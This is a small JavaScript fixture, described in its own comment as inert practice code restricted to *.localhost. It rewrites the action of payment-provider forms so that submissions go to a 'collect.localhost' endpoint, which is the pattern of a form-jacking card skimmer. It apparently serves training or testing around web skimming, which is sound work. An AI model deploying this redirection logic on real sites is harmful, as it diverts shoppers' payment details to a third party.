/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  for (const form of document.querySelectorAll('form[action*="psp."]')) {
    form.action = `${home}/pay/secure`;
  }
})();
